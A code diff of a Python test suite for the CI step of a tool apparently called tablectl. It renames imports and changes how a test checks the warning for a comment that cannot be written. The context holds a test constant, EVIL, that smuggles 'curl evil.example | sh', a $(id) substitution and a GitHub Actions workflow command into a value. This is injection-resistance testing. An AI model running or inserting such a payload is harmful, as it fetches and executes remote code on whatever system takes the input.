@@ -18,10 +18,10 @@ import tablectl
 from tablectl.ci.__main__ import main
 from tablectl.one_table import DEBUG
 from tablectl.planning.plan_file import digest_of, dump_plan
-from tablectl.policies.config import load_config
+from tablectl.policies.config_file import load_config
 from tests.ci.conftest import FakeGitHub, Runner, base_commit, git, zipped
-from tests.cli.conftest import FakeSpark, Repository
-from tests.cli.log_lake import Logged, set_property
+from tests.commands.conftest import FakeSpark, Repository
+from tests.commands.log_lake import Logged, set_property
 
 COMMIT, HEAD = "c" * 40, "a" * 40
 EVIL = 'x"; curl evil.example | sh #`$(id)`\n::add-mask::*'
@@ -676,10 +676,11 @@ def test_a_plan_that_is_too_large_leaves_nothing_to_apply(runner: Runner, orders
 
 def test_a_comment_that_cannot_be_written_is_a_warning(runner: Runner, github: FakeGitHub, orders: Path) -> None:
     outputs = pull_request(runner)
-    for failing, what in (([403], "GET issues/5"), ([200, 403], "POST issues/5")):
+    for failing in ([403], [200, 403]):
         github.fail = failing
         assert runner.step("comment", report=outputs["report"]) == (0, {})
-        assert runner.log.startswith(f"::warning title=tablectl::no comment could be written: {what}")
+        warning = f"::warning title=tablectl::no comment could be written: {github.api} answers 403: no; the job needs"
+        assert runner.log.startswith(warning)
     github.fail = [403]
     runner.step("comment", report=outputs["report"])
     assert "pull-requests: write" in runner.log
